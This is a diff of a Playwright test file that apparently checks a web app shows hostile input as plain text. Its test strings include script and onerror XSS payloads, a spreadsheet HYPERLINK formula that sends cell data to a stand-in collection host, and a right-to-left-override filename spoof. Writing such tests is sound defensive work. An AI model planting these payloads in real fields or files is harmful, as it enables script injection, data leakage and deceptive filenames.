@@ -17,7 +17,9 @@ function made(page: Page): Promise<string[]> {
     const elements = [...document.querySelectorAll('*')];
     const foreign = elements.filter(
       (element) =>
-        element.matches('img, iframe, object, embed, marquee, b b, textarea, title ~ title, base, form form') ||
+        element.matches(
+          'img, iframe, object, embed, marquee, b b, textarea, title ~ title, base, form form',
+        ) ||
         (element.matches('script') && !element.getAttribute('src')?.startsWith('/assets/')) ||
         (element.matches('svg') && element.querySelector('path') === null),
     );
@@ -73,10 +75,12 @@ test('T01 markup stands as text, in the grid, the drawers and the address host',
     Certificate: '<script>alert(1)</script>',
   });
   await gridCell(page, '1001', 'Certificate').click();
-  await expect.poll(() => facts(drawer(page))).toMatchObject({
-    Subject:
-      '<script>alert(1)</script> · =HYPERLINK("https://collect.shop-metrics.test/?"&A1,"open") · invoice‹RLO›fdp.exe‹PDF› end · "<img src=x onerror=alert(2)>"@hostile.example · <b>',
-  });
+  await expect
+    .poll(() => facts(drawer(page)))
+    .toMatchObject({
+      Subject:
+        '<script>alert(1)</script> · =HYPERLINK("https://collect.shop-metrics.test/?"&A1,"open") · invoice‹RLO›fdp.exe‹PDF› end · "<img src=x onerror=alert(2)>"@hostile.example · <b>',
+    });
   await expect(drawer(page).getByRole('listitem')).toHaveText([
     '<img src=x onerror=alert(2)>',
     '*.hostile.example',
@@ -101,7 +105,9 @@ test.describe('T03 control characters', () => {
       (code) => `\\x${code.toString(16).padStart(2, '0')}`,
     );
     await openPorts(page, hostile);
-    const [line = ''] = (await gridRows(page)).filter(({ Port }) => Port === '1011').map((row) => row['Newest banner'] ?? '');
+    const [line = ''] = (await gridRows(page))
+      .filter(({ Port }) => Port === '1011')
+      .map((row) => row['Newest banner'] ?? '');
     // Five are white space, of which the line break stays, as a mark; the line ends after 200 characters.
     const inLine = [...escapes.slice(0, 9), ' ↵ ', ...escapes.slice(14)].join('');
     expect(line).toBe(`${inLine.slice(0, 200)}…`);
@@ -109,8 +115,8 @@ test.describe('T03 control characters', () => {
     const marks = drawer(page).locator('pre').getByTitle(/^U\+/);
     // The tab and the line break stay what they are; a carriage return without its line feed is none.
     await expect(marks).toHaveText(escapes.filter((escape) => !['\\x09', '\\x0a'].includes(escape)));
-    await expect(marks.nth(0)).toHaveAttribute('title', 'U+0000 NULL');
-    await expect(marks.filter({ hasText: '\\x1b' })).toHaveAttribute('title', 'U+001B ESCAPE');
+    await expect(marks.nth(0)).toHaveAttribute('title', 'U+0000 NUL');
+    await expect(marks.filter({ hasText: '\\x1b' })).toHaveAttribute('title', 'U+001B ESC');
   });
 
   test('are not in the page itself, nor in copies', async ({ page }) => {
